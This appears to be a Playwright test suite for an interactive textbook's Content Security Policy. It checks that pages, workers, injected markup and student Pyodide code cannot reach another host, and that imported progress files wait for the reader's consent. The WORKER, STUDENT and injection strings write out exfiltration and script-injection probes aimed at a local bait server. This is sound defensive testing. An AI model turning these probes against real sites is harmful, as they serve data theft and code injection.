"""The page's own defences: what it may load and run, and that code of others waits for its reader's word."""

import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from book import policy
from tests.page.conftest import CHAPTER, RELU, START, Chapter

PAGES = (CHAPTER, "chapters/intro.html", "chapters/03_xor.html", "search.html?q=gradient", "genindex.html")
LISTEN = """
  window.n2nViolations = [];
  document.addEventListener("securitypolicyviolation", (e) => n2nViolations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));
"""


class Bait(BaseHTTPRequestHandler):
    """Another host: answers whatever is asked, to whoever asks, and writes it down."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"export default 1;" if "module" in self.path else b"void 0;")

    do_POST = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def bait() -> Iterator[tuple[str, list[str]]]:
    """The address of another host, and what it was asked for."""
    asked: list[str] = []
    it = ThreadingHTTPServer(("127.0.0.1", 0), type("Own", (Bait,), {"asked": asked}))
    threading.Thread(target=it.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{it.server_port}", asked
    it.shutdown()
    it.server_close()


@pytest.fixture(scope="module")
def unguarded(book: Path, serve: Callable[[Path], str], tmp_path_factory: pytest.TempPathFactory) -> str:
    """Where the same pages are as they would be without their policy: the control."""
    folder = tmp_path_factory.mktemp("unguarded")
    for path in book.iterdir():
        if path.name != "chapters" and path.suffix != ".html":
            (folder / path.name).symlink_to(path)
    for path in book.rglob("*.html"):
        if "_static" not in path.parts:
            target = folder / path.relative_to(book)
            target.parent.mkdir(exist_ok=True)
            html = path.read_text("utf8")
            assert policy._META.search(html)
            target.write_text(policy._META.sub("", html), "utf8")
    return serve(folder)


GUARDED = pytest.mark.parametrize("guarded", [True, False], ids=["with the policy", "the control without it"])


# ---- as files ----


def test_every_page_says_first_what_it_may_load(book: Path) -> None:
    pages = [p for p in book.rglob("*.html") if "_static" not in p.parts]
    assert len(pages) > 15
    for path in pages:
        html = path.read_text("utf8")
        metas = list(policy._META.finditer(html))
        assert len(metas) == 1, path
        before = html[: metas[0].start()]
        assert not re.search(r"<(script|link|style|img)\b", before), path
        told = metas[0][0]
        assert "'unsafe-eval'" not in told
        assert "'unsafe-inline'" not in told.split("script-src")[1].split(";")[0]
        assert not re.search(r"https?:|\*", told.replace("Content-Security-Policy", "")), path
        assert policy.guarded(html) == html, "once is enough"
        body = re.sub(r"<script\b.*?</script>|<pre\b.*?</pre>", "", html, flags=re.S)
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", body), f"{path.name}: a handler that would not run"
        assert not re.search(r"(?:href|src|action)\s*=\s*[\"']?\s*javascript:", body, re.I), path


def test_a_script_that_the_page_was_not_built_with_changes_its_policy() -> None:
    page = "<html><head><meta charset='utf-8'><script>a()</script></head></html>"
    assert policy.policy(page) != policy.policy(page.replace("a()", "b()"))
    assert policy.policy(page) == policy.policy(page + '<script type="application/json">{"x": 1}</script>')


# ---- in a browser ----


@pytest.mark.browser
def test_nothing_that_the_book_does_is_refused(browser: Any, address: str) -> None:
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.add_init_script(LISTEN)
    said: list[str] = []
    page.on("console", lambda m: said.append(m.text) if "Content Security Policy" in m.text else None)
    it = Chapter(page, address)
    for name in PAGES:
        page.goto(address + name, wait_until="load")
        if "search" in name:
            page.locator("#search-results li").first.wait_for()
            page.keyboard.press("Control+k")
        if "intro" in name:
            page.wait_for_function("() => document.querySelector('.n2n-landing[ready]')")
        if "chapters/0" in name:
            page.wait_for_function("() => window.n2n?.widgets?.length >= 1")
            slider = page.locator("n2n-widget input[type=range]").first
            if slider.count():
                slider.focus()
                page.keyboard.press("ArrowRight")
        if name == CHAPTER:
            assert "passed" in it.check("relu", RELU)
            it.run("relu", RELU + "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()")
            assert it.box("relu").locator("img.n2n-figure").count() == 1
        assert page.evaluate("n2nViolations") == [], name
    page.close()
    assert said == []


@pytest.mark.browser
def test_from_a_file_the_widgets_live_and_nothing_is_refused(browser: Any, book: Path) -> None:
    page = browser.new_page()
    page.add_init_script(LISTEN)
    page.goto((book / CHAPTER).as_uri())
    page.wait_for_function("() => window.n2n?.widgets?.length >= 3")
    assert page.locator("n2n-widget svg").count() >= 3
    assert page.evaluate("n2nViolations") == []
    page.close()


WORKER = """async (host) => {
  const ways = [
    `fetch("${host}/fetch").catch(() => {})`,
    `fetch("${host}/post", { method: "POST", mode: "no-cors", body: "x" }).catch(() => {})`,
    `(() => { const x = new XMLHttpRequest(); x.open("GET", "${host}/xhr", false); x.send(); })()`,
    `importScripts("${host}/importScripts")`,
    `new WebSocket("${host}/socket".replace("http", "ws"))`,
    `new EventSource("${host}/events")`,
    `import("${host}/module")`,
    `new FontFace("x", "url(${host}/font)").load().catch(() => {})`,
    `new Worker("data:text/javascript,importScripts('${host}/nested')")`,
    `new Function("fetch('${host}/function').catch(() => {})")()`,
  ];
  const code = ways.map((way) => `try { const p = ${way}; p?.catch?.(() => {}); } catch {}`).join("\\n") + "\\nsetTimeout(() => postMessage('done'), 1500);";
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  await new Promise((resolve) => (worker.onmessage = resolve));
}"""


@pytest.mark.browser
@GUARDED
def test_a_worker_of_the_page_reaches_no_other_host(
    browser: Any, address: str, unguarded: str, bait: Any, guarded: bool
) -> None:
    """Even one that still has all that ours deletes."""
    host, asked = bait
    page = browser.new_page()
    page.goto((address if guarded else unguarded) + "genindex.html")
    page.evaluate(WORKER, host)
    page.close()
    if guarded:
        assert asked == []
    else:
        assert {"/fetch", "/post", "/xhr", "/importScripts", "/socket", "/module", "/function"} <= set(asked)


@pytest.mark.browser
@GUARDED
def test_the_page_itself_runs_and_loads_nothing_of_others(
    browser: Any, address: str, unguarded: str, bait: Any, guarded: bool
) -> None:
    host, asked = bait
    page = browser.new_page()
    page.goto((address if guarded else unguarded) + "genindex.html")
    page.evaluate(
        """async (host) => {
          const put = (html) => document.body.append(document.createRange().createContextualFragment(html));
          put(`<img src="${host}/img"><iframe src="${host}/frame"></iframe><link rel="stylesheet" href="${host}/css">`);
          put(`<script src="${host}/script"></scr` + `ipt><script>window.n2nRan = 1</scr` + `ipt>`);
          put(`<svg onload="window.n2nRan = 2"></svg><object data="${host}/object"></object>`);
          fetch(`${host}/fetch`).catch(() => {});
          navigator.sendBeacon(`${host}/beacon`, "x");
          await new Promise((resolve) => setTimeout(resolve, 1500));
        }""",
        host,
    )
    ran = page.evaluate("window.n2nRan ?? 0")
    page.close()
    if guarded:
        assert (asked, ran) == ([], 0)
    else:
        assert {"/img", "/frame", "/css", "/script", "/fetch", "/beacon"} <= set(asked)
        assert ran


STUDENT = """
def relu(z):
    return np.maximum(z, 0.0)
import js
for code in [
    "js.fetch('HOST/fetch')", "js.self.fetch('HOST/fetch')", "js.XMLHttpRequest.new()", "js.WebSocket.new('ws' + 'HOST'[4:])",
    "js.importScripts('HOST/importScripts')", "js.Worker.new('HOST/worker')", "js.eval(\\"import('HOST/module')\\")",
    "js.Function.new(\\"return import('HOST/module2')\\")()", "js.FontFace.new('x', 'url(HOST/font)').load()",
    "__import__('pyodide.code').code.run_js(\\"import('HOST/module3')\\")", "__import__('pyodide.http').http.open_url('HOST/open')",
    "__import__('pyodide.http').http.pyfetch('HOST/pyfetch').send(None)", "__import__('urllib.request').request.urlopen('HOST/urllib')",
    "__import__('pyodide_js').loadPackage('HOST/p.whl')", "js.setTimeout(\\"fetch('HOST/later')\\", 0)", "js.navigator.storage.getDirectory()",
]:
    try:
        print("did", code[:24], eval(code))
    except BaseException as e:
        print("refused", code[:24], type(e).__name__)
"""


@pytest.mark.browser
@GUARDED
def test_code_in_an_exercise_reaches_no_other_host(
    browser: Any, address: str, unguarded: str, bait: Any, guarded: bool
) -> None:
    host, asked = bait
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    it = Chapter(page, address if guarded else unguarded).open()
    said = it.run("relu", STUDENT.replace("HOST", host))
    page.wait_for_timeout(1500)
    assert said.count("refused") + said.count("did ") >= 14, said
    if guarded:
        assert asked == [], said
        assert "passed" in it.check("relu", RELU), "the exercise goes on working"
    else:
        assert "/font" in asked or "/module3" in asked, said
    page.close()


# ---- progress of others ----

MARK = "IMPORTED CODE RAN"
THEIRS = RELU + f"print('{MARK}')\n"


def theirs(tmp_path: Path) -> Path:
    file = tmp_path / "theirs.json"
    record = {"code": THEIRS, "passed": THEIRS, "status": "passed", "at": 9e15, "passedAt": 9e15}
    file.write_text(json.dumps({"n2n": 1, "student": "mallory", "exercises": {"relu": record}}))
    return file


def kept(chapter: Chapter) -> dict[str, str]:
    every = chapter.page.evaluate("Object.fromEntries(Object.entries(localStorage))")
    return {k: v for k, v in every.items() if k.startswith("n2n:") and "python" not in k}


@pytest.mark.browser
def test_imported_code_waits_for_its_readers_word(chapter: Chapter, tmp_path: Path) -> None:
    page = chapter.page
    page.wait_for_load_state("networkidle")

    def asked() -> list[str]:
        return [
            url for url in chapter.requests if "/_static/" not in url
        ]  # the page's own parts may come late

    before, known, workers = kept(chapter), asked(), len(page.workers)
    page.locator("input[type=file]").set_input_files(theirs(tmp_path))
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("holds code for 1 exercise")
    expect(dialog.locator("pre")).to_contain_text(MARK)  # it can be read first
    page.wait_for_timeout(700)
    assert (kept(chapter), asked(), len(page.workers)) == (before, known, workers)
    assert chapter.badge("relu") == ""
    page.keyboard.press("Enter")  # the focus is on the answer that does nothing
    expect(page.locator(".n2n-work > .n2n-status")).to_have_text("Nothing was imported.")
    assert kept(chapter) == before
    chapter.page.reload()
    assert MARK not in chapter.run("relu")
    assert chapter.badge("relu") == ""


@pytest.mark.browser
def test_the_control_what_was_taken_over_runs(chapter: Chapter, tmp_path: Path) -> None:
    chapter.page.locator("input[type=file]").set_input_files(theirs(tmp_path))
    chapter.page.get_by_role("button", name="Take it over").click()
    expect(chapter.box("relu").locator(".n2n-badge")).to_have_text("✓ passed")
    assert any(MARK in v for v in kept(chapter).values())
    chapter.box("relu").scroll_into_view_if_needed()
    expect(chapter.box("relu").locator(".cm-content")).to_contain_text(MARK, timeout=START)
    assert MARK in chapter.run("relu")
